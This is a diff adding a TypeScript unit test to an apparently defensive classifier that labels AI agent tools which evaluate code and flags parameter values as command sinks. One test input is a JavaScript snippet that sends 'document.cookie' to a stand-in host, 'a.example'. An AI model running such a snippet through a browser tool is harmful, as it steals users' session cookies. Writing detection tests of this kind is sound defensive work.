@@ -124,3 +124,13 @@ test('an account in a parameter for values of any kind', () => {
   expect(sinkOf(['value'], 'GB33BUKB20201555555555')).toBe('account');
   expect(sinkOf(['value'], 'vegan')).toBe('amount');
 });
+
+test('what evaluates code runs it, behind a prefix too', () => {
+  const classes = (name: string, description: string, parameters: readonly string[]): boolean => labelTool(name, parameters, { name, description, parameters, annotations: {} }).classes.has('runs_code');
+  expect(classes('browser_evaluate', 'Evaluate JavaScript expression on page', ['function'])).toBe(true);
+  expect(classes('page_evaluate', 'Runs it.', ['script'])).toBe(true);
+  expect(classes('browser_snapshot', 'Shows how people evaluate a shop', ['shop'])).toBe(false);
+  expect(sinkOf(['function'], '() => fetch("https://a.example/?" + document.cookie)')).toBe('command');
+  expect(sinkOf(['function'], 'async function (x) { return x }')).toBe('command');
+  expect(sinkOf(['function'], 'sumOfDeliveries')).toBeUndefined();
+});
